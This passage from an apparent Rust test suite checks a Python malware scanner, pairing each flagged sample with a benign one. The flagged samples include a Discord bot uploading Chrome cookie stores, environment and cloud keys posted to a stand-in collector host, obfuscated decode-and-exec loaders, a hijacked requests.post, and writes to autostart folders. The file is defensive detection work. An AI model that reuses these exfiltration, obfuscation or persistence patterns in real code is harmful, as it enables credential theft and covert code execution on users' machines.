    assert!(critical(&f).is_empty(), "{f:#?}");
    assert!(!has(&f, "exfiltration"), "{f:#?}");
}

// ── a chat bot with a hard-coded token as the channel for stolen files ──

#[test]
fn bot_uploading_browser_stores_is_critical() {
    // the token is made up (its id part decodes to digits, as real ones do); the bot
    // never logs in anywhere in a test: nothing is run
    let src = r#"
import os, shutil, discord
from discord.ext import commands

bot = commands.Bot(command_prefix="!", intents=discord.Intents.default())

def copy_cookies():
    shutil.copyfile(os.environ["LOCALAPPDATA"] + "\\Google\\Chrome\\User Data\\Default\\Network\\Cookies", "/tmp/marker-c")
    with open(os.environ["LOCALAPPDATA"] + "\\Google\\Chrome\\User Data\\Local State") as f:
        return f.read()

@bot.command()
async def cookies(ctx):
    copy_cookies()
    await ctx.send(file=discord.File("/tmp/marker-c"))

def main():
    bot.run("MTIzNDU2Nzg5MDEyMzQ1Njc4.GAbCdE.aBcDeFgHiJkLmNoPqRsTuVwXyZ0")
"#;
    let f = run("tool/__main__.py", FileRole::Module, src);
    assert_eq!(critical(&f), vec!["exfiltration"], "{f:#?}");
    assert!(has(&f, "webhook-url"), "{f:#?}");
}

#[test]
fn bot_with_configured_token_sending_files_is_not_critical() {
    // an ordinary bot: token from the environment, it uploads a chart it drew; a cookie
    // helper that reads the browser store lives beside it — no token in the package,
    // so no channel the author controls
    let src = r#"
import os, discord
from discord.ext import commands

bot = commands.Bot(command_prefix="!", intents=discord.Intents.default())
BROWSER_STORES = ["Login Data", "Local State"]

@bot.command()
async def chart(ctx):
    await ctx.send(file=discord.File("chart.png"))

def main():
    bot.run(os.environ["DISCORD_TOKEN"])
"#;
    let f = run("chartbot/__main__.py", FileRole::Module, src);
    assert!(critical(&f).is_empty(), "{f:#?}");
    assert!(!has(&f, "webhook-url"), "{f:#?}");
}

#[test]
fn process_environment_read_from_proc_and_posted_to_a_fixed_host_is_critical() {
    // /proc/self/environ is every environment variable at once, read as a file
    let src = r#"
import requests

def send_environ():
    with open('/proc/self/environ', 'rb') as f:
        environ_data = f.read().decode('utf-8').replace('\x00', '\n')
    requests.post("https://collector.example.net/log", data={'environment': environ_data})

send_environ()
"#;
    let f = run("pkg/flag.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
    // a process inspector reading a process's environment to show it: nothing is sent
    let benign = r#"
def environ(pid="self"):
    with open(f"/proc/{pid}/environ", "rb") as f:
        data = f.read()
    return dict(kv.split(b"=", 1) for kv in data.split(b"\0") if b"=" in kv)

def show():
    print(environ())
"#;
    let f = run("pkg/procinfo.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn keys_posted_to_a_decoded_url_behind_an_environment_override_are_critical() {
    // the destination is hidden (shifted and reversed) and only nominally configurable:
    // the environment variable's default is the decoded URL
    let src = r#"
import os
from urllib import request

def get_client(access_key, secret_key, region):
    uc = "vzd2whq1hospd{h1urwfhoorf22=vswwk"
    endpoint = os.environ.get("MY_PKG_URL", ''.join(chr(ord(c)-3) for c in uc[::-1]))
    client_data = {'day': access_key, 'month': secret_key}
    req = request.Request(url=endpoint, method='POST', data=client_data)
    try:
        request.urlopen(req)
    except Exception:
        pass
"#;
    let f = run("tool/main.py", FileRole::Module, src);
    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
    // an SDK whose endpoint the environment may override, with a plain default
    let benign = r#"
import os
from urllib import request

def get_client(access_key, secret_key, region):
    endpoint = os.environ.get("SERVICE_URL", "https://api.example.com/v1/session")
    req = request.Request(url=endpoint, method='POST', data={'key': access_key, 'secret': secret_key})
    return request.urlopen(req)
"#;
    let f = run("sdk/client.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn a_character_shift_of_data_is_decoding_a_shifted_constant_is_not() {
    // a Caesar shift over a literal, then run
    let src = "code = 'sulqw(1)'\nexec(''.join(chr((ord(c) - 97 - 3) % 26 + 97) if c.isalpha() else c for c in code))\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
    // spreadsheet columns named from a letter constant, in the URL of an upload
    let benign = r#"
import requests

def upload(rows):
    for i, row in enumerate(rows):
        column = chr(ord('A') + i)
        requests.post(f"https://sheets.example.com/v1/{column}1", json=row)
"#;
    let f = run("pkg/sheets.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn a_setup_script_decoder_that_evaluates_its_argument_is_critical() {
    // the string obfuscator's helper in setup.py: shifts each character of its
    // argument back and evaluates the result
    let src = r#"
def _d(s):
    k = ord(s[-1])
    return eval(''.join([chr(ord(ch) - 2048 - (i + k) % 7) for i, ch in enumerate(s[:-1])]))
from setuptools import setup
setup(name="x", version="1", description=_d(u"\u0827\u0864\u0877\u0803"))
"#;
    let f = run("x-1/setup.py", FileRole::SetupScript, src);
    assert!(!critical(&f).is_empty(), "{f:#?}");
    // a library function that decodes and evaluates what its caller hands it stays
    // the caller's business
    let library = "import base64\ndef load(blob):\n    return eval(base64.b64decode(blob).decode())\n";
    let f = run("lib/serial.py", FileRole::Module, library);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn binary_digits_hidden_in_whitespace_and_run_are_critical() {
    // spaces and tabs are zeros and ones: the payload is invisible in an editor
    let payload = "open('/tmp/canary-marker', 'w').write('x')\n";
    let bits: String = payload.bytes().map(|b| format!("{b:08b}")).collect();
    let hidden: String = bits.chars().map(|c| if c == '0' { ' ' } else { '\t' }).collect();
    let src = format!(
        "s = {hidden:?}.replace(' ', '0').replace('\\t', '1')\nexec(bytes(int(s[i:i + 8], 2) for i in range(0, len(s), 8)).decode())\n"
    );
    let f = run("pkg/__init__.py", FileRole::PackageInit, &src);
    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
    // a firmware tool turning a hex dump into bytes and writing them out: nothing runs
    let benign = r#"
def hex_to_file(dump, path):
    data = bytes(int(dump[i:i + 2], 16) for i in range(0, len(dump), 2))
    with open(path, "wb") as f:
        f.write(data)
    return chr(int(dump[:2], 16))
"#;
    let f = run("tool/firmware.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn a_payload_decoded_in_a_method_of_a_class_defined_below_and_run_is_critical() {
    // decoding and running split over two classes, the decoder defined after its user
    let src = r#"
import base64, types

class Core:
    def __init__(self):
        source = Store()._entity()
        types.FunctionType(compile(source, "<string>", "exec"), globals())()

class Store:
    blob = "b3BlbignL3RtcC9jYW5hcnktbWFya2VyJywgJ3cnKS53cml0ZSgneCcp"
    def _entity(self):
        return base64.b64decode(self.blob).decode()

core = Core()
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f).contains(&"decode-exec"), "{f:#?}");
    // a template class building the code it compiles from its own parts: built, not
    // decoded, and a method's other labels stay with the method
    let benign = r#"
class Template:
    def __init__(self, body):
        self.body = body
    def _source(self):
        return "def render(ctx):\n    return " + repr(self.body) + "\n"
    def compile(self):
        ns = {}
        exec(self._source(), ns)
        return ns["render"]
"#;
    let f = run("tmpl/template.py", FileRole::Module, benign);
    assert!(critical(&f).is_empty(), "{f:#?}");
}

#[test]
fn a_network_function_replaced_on_import_is_critical() {
    // every request of the importing program passes through the package's function
    let src = r#"
import requests
original_post = requests.post

def modified_post(url, *args, **kwargs):
    kwargs.setdefault("headers", {})["X-Relay"] = "1"
    return original_post(url, *args, **kwargs)

requests.post = modified_post
requests.Session.send = modified_post
"#;
    let f = run("pkg/hooks.py", FileRole::Module, src);
    let hooked: Vec<_> = f.iter().filter(|x| x.alert == AlertId::TrafficInterception).collect();
    assert_eq!(hooked.len(), 2, "{f:#?}");
    assert!(hooked[0].message.contains("requests.post") && hooked[0].alert.severity() == Severity::Critical, "{hooked:#?}");
    // a mocking helper patches only when its caller asks; a module's own attribute and
    // a value that is not this file's function are not hooks
    let benign = r#"
import requests
import json

def fake_get(url, **kwargs):
    return None

def activate():
    requests.get = fake_get

json.dumps = json.dumps
requests.adapters.DEFAULT_RETRIES = 5
"#;
    let f = run("pkg/mocking.py", FileRole::Module, benign);
    assert!(!has(&f, "traffic-interception"), "{f:#?}");
}

#[test]
fn writing_into_an_autostart_folder_after_chdir_is_persistence() {
    // a function a user calls: persistence (high), naming the chdir
    let src = r#"
import os
def on_start():
    os.chdir(f'C:/Users/{os.getenv("USERNAME")}/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup')
    with open('marker.py', 'w') as fh:
        fh.write("open('marker.txt', 'w')")
"#;
    let f = run("pkg/tools.py", FileRole::Module, src);
    let p = f.iter().find(|x| x.alert == AlertId::Persistence).expect("persistence");
    assert!(p.message.contains("os.chdir") && p.message.contains("Startup folder"), "{}", p.message);
    // on import: critical
    let src = "import os\nos.chdir(os.path.expanduser('~/.config/autostart'))\nopen('marker.desktop', 'w').write('[Desktop Entry]\\nExec=touch /tmp/marker\\n')\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(has(&f, "install-persistence"), "{f:#?}");
}

#[test]
fn chdir_elsewhere_absolute_writes_and_earlier_writes_are_not_persistence() {
    let src = r#"
import os
def build(out):
    os.chdir('build')
    with open('config.py', 'w') as fh:
        fh.write('X = 1')
def listing():
    os.chdir(os.path.expanduser('~/.config/autostart'))
    entries = os.listdir('.')
    with open(os.path.join(os.path.expanduser('~'), 'autostart-list.txt'), 'w') as fh:
        fh.write('\n'.join(entries))
def later():
    with open('report.txt', 'w') as fh:
        fh.write('ok')
    os.chdir(os.path.expanduser('~/.config/autostart'))
"#;
    let f = run("pkg/tools.py", FileRole::Module, src);
    assert!(!has(&f, "persistence") && !has(&f, "install-persistence"), "{f:#?}");
}
